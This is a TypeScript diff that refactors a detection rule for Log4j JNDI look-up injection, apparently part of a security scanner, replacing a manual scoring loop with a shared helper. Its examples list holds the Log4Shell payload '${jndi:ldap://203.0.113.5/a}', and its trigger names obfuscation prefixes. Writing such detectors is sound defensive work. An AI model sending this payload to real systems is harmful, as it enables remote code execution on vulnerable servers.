@@ -1,7 +1,8 @@
 import { lookupGrammar } from '../../grammars/template/lookup.ts';
 import { confidence } from '../../placement/confidence.ts';
+import { strongest } from '../../placement/evidence.ts';
 import { isWord } from '../../text/char-class.ts';
-import type { Match, ValueRule } from '../rule.ts';
+import type { ValueRule } from '../rule.ts';
 
 /** `${jndi:ldap://…}` and all that Log4j makes into it. */
 export const lookup: ValueRule = {
@@ -12,19 +13,16 @@ export const lookup: ValueRule = {
   message: 'is a JNDI look-up once a logger has resolved what is nested in it',
   trigger: { literals: [['{'], ['jndi', ':-', 'lower:', 'upper:', 'date:']] },
   judge: (subject) => {
-    let best: Match | undefined;
     const reading = subject.tokens(lookupGrammar);
     if (!reading.complete) subject.incomplete('tokens');
-    for (const one of reading.lookups) {
+    return strongest(reading.lookups, (one) => {
       const at = one.resolved.indexOf('jndi:');
-      if (at < 0) continue;
+      if (at < 0) return 0;
       // The prefix of the look-up, or of one nested in it.
       const target = one.resolved.slice(at + 5).trimStart();
       const isStart = at === 0 || !isWord(one.resolved.charCodeAt(at - 1));
-      const score = isStart ? scoreOf(target, one.inner > 0) : confidence.hint;
-      if (score > (best?.score ?? 0)) best = { start: one.start, end: one.end, score };
-    }
-    return best;
+      return isStart ? scoreOf(target, one.inner > 0) : confidence.hint;
+    });
   },
   examples: [
     '${jndi:ldap://203.0.113.5/a}',
